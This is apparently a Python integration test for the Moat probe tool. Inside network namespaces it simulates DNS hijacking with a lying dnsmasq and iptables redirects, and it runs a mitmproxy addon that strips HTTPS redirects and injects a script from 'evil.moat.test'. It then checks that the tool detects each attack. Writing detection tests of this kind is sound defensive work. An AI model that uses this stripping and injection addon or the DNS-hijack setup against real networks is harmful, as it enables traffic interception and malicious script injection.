#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
# Copyright 2026 The Moat developers
"""DNS hijacking (real dnsmasq) and SSL stripping / injected content (real
mitmproxy), in network namespaces.

    victim 10.202.1.2 --- 10.202.1.1 router 10.202.2.1 --- 10.202.2.2 origin

The origin runs an honest dnsmasq (www.moat.test is 10.202.2.2, every other
name under moat.test is NXDOMAIN) and a small HTTP server (/generate_204,
/login redirecting to https://www.moat.test/login, /page with a known body).
The router forwards. For the attacks it runs a lying dnsmasq
(--address=/moat.test/10.202.1.66), and mitmdump in transparent mode with an
addon that rewrites https redirects to http and injects a script, the
victim's port 80 REDIRECTed to it by iptables. The victim runs
moat-probe-tool dns/http; the DNS probe reads the victim's resolv.conf
(/etc/netns/NAME/resolv.conf, bind-mounted by ip netns exec).

Checks, in order:
  1. DNS clean (resolv.conf: the honest resolver): CLEAN, 5 runs
  2. DNS, resolv.conf pointing at the lying dnsmasq (a rogue DHCP server):
     network.dns_hijack high (pinned) and medium (NXDOMAIN); 3 runs, timed
  3. DNS, the router transparently redirecting port 53 to the lying dnsmasq
     (resolv.conf unchanged): network.dns_hijack; 3 runs, timed
  4. DNS, a resolver that only rewrites NXDOMAIN: pinned CLEAN, NXDOMAIN
     network.dns_hijack medium
  5. DNS, resolver unreachable: INCONCLUSIVE
  6. HTTP clean: CLEAN, 5 runs
  7. HTTP through mitmproxy: network.ssl_strip and
     network.content_manipulation; 3 runs, timed
  8. HTTP through mitmproxy playing captive portal: INCONCLUSIVE with
     captive_portal, no threat
  9. DNS and HTTP clean again once the attackers are gone: 5 runs each

Usage: moat-dns-http-netns-test.py PATH/TO/moat-probe-tool
Exit 77 (skip) when not root or a tool is missing.
"""

import hashlib
import json
import os
import shutil
import statistics
import subprocess
import sys
import tempfile
import time

sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
from moatnetns import (log, listening, namespaces, ns, processes, run, spawn,  # noqa: E402
                       stop, stop_all, wait_for)

SKIP = 77
TAG = f"moat-dns-{os.getpid()}"
NS_VICTIM, NS_ROUTER, NS_ORIGIN = f"{TAG}-v", f"{TAG}-r", f"{TAG}-o"
NETNS_ETC = f"/etc/netns/{NS_VICTIM}"
ORIGIN = "10.202.2.2"
ROUTER = "10.202.1.1"
LIE = "10.202.1.66"
PINNED = "www.moat.test"
MITM_PORT = 8080
NX_PORT = 5353
CLEAN_RUNS = 5
ATTACK_RUNS = 3
DETECT_LIMIT_S = 10.0

PAGE = b"<html><head><title>Moat</title></head><body>hello from the origin</body></html>\n"

ORIGIN_SERVER = r'''
import http.server, sys
PAGE = %r
class Handler(http.server.BaseHTTPRequestHandler):
    def reply(self, status, body=b"", headers=()):
        self.send_response(status)
        for k, v in headers:
            self.send_header(k, v)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def do_GET(self):
        if self.path == "/generate_204":
            self.send_response(204)
            self.end_headers()
        elif self.path == "/login":
            self.reply(301, b"", [("Location", "https://www.moat.test/login")])
        elif self.path == "/page":
            self.reply(200, PAGE, [("Content-Type", "text/html; charset=utf-8")])
        else:
            self.reply(404)
    def log_message(self, *args):
        pass
http.server.HTTPServer((sys.argv[1], 80), Handler).serve_forever()
''' % PAGE

# The attacker's mitmproxy addon. The mode is read from a file per response,
# so one mitmdump plays stripper and captive portal in turn.
ADDON = r'''
import os
from mitmproxy import http

MODE_FILE = os.environ["MOAT_ATTACK_MODE_FILE"]

def response(flow: http.HTTPFlow) -> None:
    try:
        mode = open(MODE_FILE).read().strip()
    except OSError:
        mode = "strip"
    if mode == "portal":
        flow.response = http.Response.make(
            302, b"", {"Location": "http://portal.hotel.test/login?orig=moat"})
        return
    location = flow.response.headers.get("Location", "")
    if location.startswith("https://"):
        flow.response.headers["Location"] = "http://" + location[len("https://"):]
    if "text/html" in flow.response.headers.get("Content-Type", "") and flow.response.content:
        flow.response.content = flow.response.content.replace(
            b"</body>", b'<script src="http://evil.moat.test/x.js"></script></body>')
'''


def cleanup():
    stop_all()
    shutil.rmtree(NETNS_ETC, ignore_errors=True)


def wait_listening(name, port, proc, udp=False, timeout=20.0):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            raise RuntimeError(f"process for port {port} in {name} exited early")
        out = ns(name, "ss", "-Hlun" if udp else "-Hltn", check=False).stdout
        if any(line.split()[3].endswith(f":{port}") for line in out.splitlines()
               if len(line.split()) > 3):
            return
        time.sleep(0.1)
    raise RuntimeError(f"nothing listens on {port} in {name}")


def setup_network():
    for name in (NS_VICTIM, NS_ROUTER, NS_ORIGIN):
        run("ip", "netns", "add", name)
        namespaces.append(name)
        ns(name, "ip", "link", "set", "lo", "up")
    run("ip", "link", "add", "v-r", "netns", NS_VICTIM, "type", "veth",
        "peer", "name", "r-v", "netns", NS_ROUTER)
    run("ip", "link", "add", "o-r", "netns", NS_ORIGIN, "type", "veth",
        "peer", "name", "r-o", "netns", NS_ROUTER)
    for name, dev, addr in ((NS_VICTIM, "v-r", "10.202.1.2/24"),
                            (NS_ROUTER, "r-v", "10.202.1.1/24"),
                            (NS_ROUTER, "r-o", "10.202.2.1/24"),
                            (NS_ORIGIN, "o-r", "10.202.2.2/24")):
        ns(name, "ip", "addr", "add", addr, "dev", dev)
        ns(name, "ip", "link", "set", dev, "up")
    ns(NS_VICTIM, "ip", "route", "add", "default", "via", ROUTER)
    ns(NS_ORIGIN, "ip", "route", "add", "default", "via", "10.202.2.1")
    ns(NS_ROUTER, "sysctl", "-qw", "net.ipv4.ip_forward=1")


def dnsmasq(name, address, tmp, label, *extra, port=53):
    args = ["dnsmasq", "--keep-in-foreground", "--conf-file=/dev/null", "--no-resolv",
            "--no-hosts", "--bind-interfaces", f"--listen-address={address}",
            f"--port={port}", "--user=root", "--group=root",
            f"--pid-file={os.path.join(tmp, label + '.pid')}", "--log-facility=-",
            "--log-queries"] + list(extra)
    proc = spawn(name, args, os.path.join(tmp, label + ".log"))
    wait_listening(name, port, proc, udp=True)
    return proc


def set_resolver(address):
    os.makedirs(NETNS_ETC, exist_ok=True)
    with open(os.path.join(NETNS_ETC, "resolv.conf"), "w") as f:
        f.write(f"# moat dns netns test\nnameserver {address}\n")


def tool_run(tool, *args):
    """Runs the tool in the victim namespace; returns (findings, wall seconds)."""
    start = time.monotonic()
    out = ns(NS_VICTIM, tool, *args, check=False)
    wall = time.monotonic() - start
    if out.returncode != 0:
        raise RuntimeError(f"moat-probe-tool failed ({out.returncode}): {out.stderr}")
    return [json.loads(line) for line in out.stdout.splitlines() if line.strip()], wall


def dns_probe(tool, *extra):
    return tool_run(tool, "dns", "--pin", f"{PINNED}={ORIGIN}", "--timeout", "2", *extra)


def http_targets():
    digest = hashlib.sha256(PAGE).hexdigest()
    return ["--target", f"http://{ORIGIN}/generate_204 expect-status 204",
            "--target", f"http://{ORIGIN}/login expect-redirect https://{PINNED}/login",
            "--target", f"http://{ORIGIN}/page expect-sha256 {digest}"]


def http_probe(tool):
    return tool_run(tool, "http", "--timeout", "3", *http_targets())


def check(findings):
    return {f["evidence"].get("check", f["evidence"].get("url")): f for f in findings}


def describe(findings):
    return "; ".join(f"{f['subject']}: {f['result']} {f['threat'] or ''}".strip()
                     for f in findings)


def expect_clean(runs, label, probe):
    false_positives = 0
    for i in range(runs):
        findings, wall = probe()
        bad = [f for f in findings if f["result"] != "clean"]
        log(f"{label} run {i + 1} ({wall:.2f} s): {describe(findings)}")
        if bad or not findings:
            false_positives += 1
    return false_positives


def time_to_detect(findings, hit):
    """Probe start to the finding @hit: the findings before it plus its own."""
    elapsed = 0
    for f in findings:
        elapsed += f["duration_us"]
        if f is hit:
            break
    return elapsed / 1e6


def expect_threats(runs, label, probe, wanted, failures, times):
    for i in range(runs):
        findings, wall = probe()
        log(f"{label} run {i + 1} ({wall:.2f} s): {describe(findings)}")
        for subject_part, threat, severity in wanted:
            hits = [f for f in findings if subject_part in f["subject"]]
            if len(hits) != 1 or hits[0]["threat"] != threat or hits[0]["severity"] != severity:
                failures.append(f"{label} run {i + 1}: expected {threat} {severity} on "
                                f"{subject_part}: {hits}")
                continue
            times.setdefault(threat, []).append((time_to_detect(findings, hits[0]), wall))
        if wall >= DETECT_LIMIT_S:
            failures.append(f"{label} run {i + 1}: took {wall:.2f} s")
        if i == 0:
            for f in findings:
                if f["threat"]:
                    log(f"  evidence {json.dumps(f['evidence'])}")


def main():
    if len(sys.argv) != 2:
        print(__doc__, file=sys.stderr)
        return 2
    tool = os.path.abspath(sys.argv[1])
    if os.geteuid() != 0:
        print("SKIP: needs root for network namespaces")
        return SKIP
    for prog in ("ip", "iptables", "mitmdump", "dnsmasq", "ss"):
        if shutil.which(prog) is None:
            print(f"SKIP: needs {prog}")
            return SKIP

    failures = []
    times = {}
    false_positives = 0
    clean_runs = 0
    tmp = tempfile.mkdtemp(prefix="moat-dns-netns-")
    try:
        setup_network()
        dnsmasq(NS_ORIGIN, ORIGIN, tmp, "honest", "--local=/moat.test/",
                         f"--host-record={PINNED},{ORIGIN}")
        liar = dnsmasq(NS_ROUTER, ROUTER, tmp, "liar", f"--address=/moat.test/{LIE}")
        nx_liar = dnsmasq(NS_ROUTER, ROUTER, tmp, "nx-liar", f"--host-record={PINNED},{ORIGIN}",
                          f"--address=/moat.test/{LIE}", port=NX_PORT)
        server_py = os.path.join(tmp, "origin.py")
        with open(server_py, "w") as f:
            f.write(ORIGIN_SERVER)
        origin = spawn(NS_ORIGIN, [sys.executable, server_py, ORIGIN],
                       os.path.join(tmp, "origin.log"))
        wait_listening(NS_ORIGIN, 80, origin)
        dns_clean = lambda: dns_probe(tool)  # noqa: E731

        # 1. DNS clean.
        set_resolver(ORIGIN)
        false_positives += expect_clean(CLEAN_RUNS, "dns clean", dns_clean)
        clean_runs += CLEAN_RUNS

        # 2. A rogue resolver handed out to the victim.
        set_resolver(ROUTER)
        expect_threats(ATTACK_RUNS, "dns rogue resolver", dns_clean,
                       [(f"{PINNED}@", "network.dns_hijack", "high"),
                        ("*.moat.test@", "network.dns_hijack", "medium")], failures, times)
        findings, _ = dns_clean()
        evidence = check(findings)["pinned"]["evidence"]
        if evidence.get("got") != [LIE] or evidence.get("expected") != [ORIGIN]:
            failures.append(f"rogue resolver evidence: {evidence}")

        # 3. The honest resolver configured, the router answering in its place.
        set_resolver(ORIGIN)
        ns(NS_ROUTER, "iptables", "-t", "nat", "-A", "PREROUTING", "-i", "r-v", "-p", "udp",
           "--dport", "53", "-j", "REDIRECT", "--to-ports", "53")
        expect_threats(ATTACK_RUNS, "dns transparent hijack", dns_clean,
                       [(f"{PINNED}@{ORIGIN}", "network.dns_hijack", "high")], failures, times)
        ns(NS_ROUTER, "iptables", "-t", "nat", "-F", "PREROUTING")

        # 4. Only NXDOMAIN rewritten (the ISP "search help" kind).
        set_resolver(ORIGIN)
        findings, wall = dns_probe(tool, "--resolver", f"{ROUTER}:{NX_PORT}")
        by_check = check(findings)
        log(f"dns nxdomain-only ({wall:.2f} s): {describe(findings)}")
        if (by_check["pinned"]["result"] != "clean"
                or by_check["nxdomain"]["threat"] != "network.dns_hijack"
                or by_check["nxdomain"]["severity"] != "medium"):
            failures.append(f"nxdomain-only: {findings}")

        # 5. Nobody answers.
        findings, wall = dns_probe(tool, "--resolver", "10.202.2.99", "--timeout", "1")
        log(f"dns unreachable ({wall:.2f} s): {describe(findings)}")
        if not findings or any(f["result"] != "inconclusive" for f in findings):
            failures.append(f"unreachable resolver: {findings}")

        # 6. HTTP clean.
        false_positives += expect_clean(CLEAN_RUNS, "http clean", lambda: http_probe(tool))
        clean_runs += CLEAN_RUNS

        # 7. mitmproxy stripping and injecting.
        mode_file = os.path.join(tmp, "attack-mode")
        with open(mode_file, "w") as f:
            f.write("strip\n")
        addon = os.path.join(tmp, "moat_attack.py")
        with open(addon, "w") as f:
            f.write(ADDON)
        env = dict(os.environ, HOME=tmp, MOAT_ATTACK_MODE_FILE=mode_file)
        mitm = spawn(NS_ROUTER, ["mitmdump", "--mode", "transparent",
                                 "--listen-port", str(MITM_PORT), "-s", addon,
                                 "--set", f"confdir={os.path.join(tmp, 'mitmproxy')}", "-q"],
                     os.path.join(tmp, "mitmdump.log"), env=env)
        wait_listening(NS_ROUTER, MITM_PORT, mitm)
        ns(NS_ROUTER, "iptables", "-t", "nat", "-A", "PREROUTING", "-i", "r-v", "-p", "tcp",
           "--dport", "80", "-j", "REDIRECT", "--to-ports", str(MITM_PORT))
        expect_threats(ATTACK_RUNS, "http mitmproxy", lambda: http_probe(tool),
                       [("/login", "network.ssl_strip", "high"),
                        ("/page", "network.content_manipulation", "high")], failures, times)

        # 8. The same mitmproxy as a captive portal: no threat, captive_portal.
        with open(mode_file, "w") as f:
            f.write("portal\n")
        findings, wall = http_probe(tool)
        log(f"http captive portal ({wall:.2f} s): {describe(findings)}")
        if (len(findings) != 3
                or any(f["result"] != "inconclusive" or not f["evidence"].get("captive_portal")
                       for f in findings)):
            failures.append(f"captive portal: {findings}")
        ns(NS_ROUTER, "iptables", "-t", "nat", "-F", "PREROUTING")
        stop(mitm)

        # 9. Attackers gone.
        stop(liar)
        stop(nx_liar)
        false_positives += expect_clean(CLEAN_RUNS, "dns clean after", dns_clean)
        false_positives += expect_clean(CLEAN_RUNS, "http clean after", lambda: http_probe(tool))
        clean_runs += 2 * CLEAN_RUNS

        for threat, pairs in sorted(times.items()):
            probe_s = [p for p, _ in pairs]
            wall_s = [w for _, w in pairs]
            log(f"time-to-detect {threat} (probe start to finding): "
                f"min {min(probe_s) * 1000:.1f} ms, median {statistics.median(probe_s) * 1000:.1f} ms, "
                f"max {max(probe_s) * 1000:.1f} ms over {len(probe_s)} detections; "
                f"tool wall time max {max(wall_s) * 1000:.0f} ms")
        log(f"false positives: {false_positives} of {clean_runs} clean runs")
        if false_positives:
            failures.append(f"{false_positives} false positives")
    except (RuntimeError, subprocess.CalledProcessError, OSError, KeyError) as e:
        detail = getattr(e, "stderr", "") or ""
        failures.append(f"{e!r} {detail}".strip())
        for name in ("honest.log", "liar.log", "nx-liar.log", "origin.log", "mitmdump.log"):
            path = os.path.join(tmp, name)
            if os.path.exists(path):
                log(f"--- {name}:\n{open(path).read()[-2000:]}")
    finally:
        cleanup()
        shutil.rmtree(tmp, ignore_errors=True)

    for failure in failures:
        print(f"FAIL: {failure}")
    if failures:
        return 1
    print("PASS")
    return 0


if __name__ == "__main__":
    sys.exit(main())
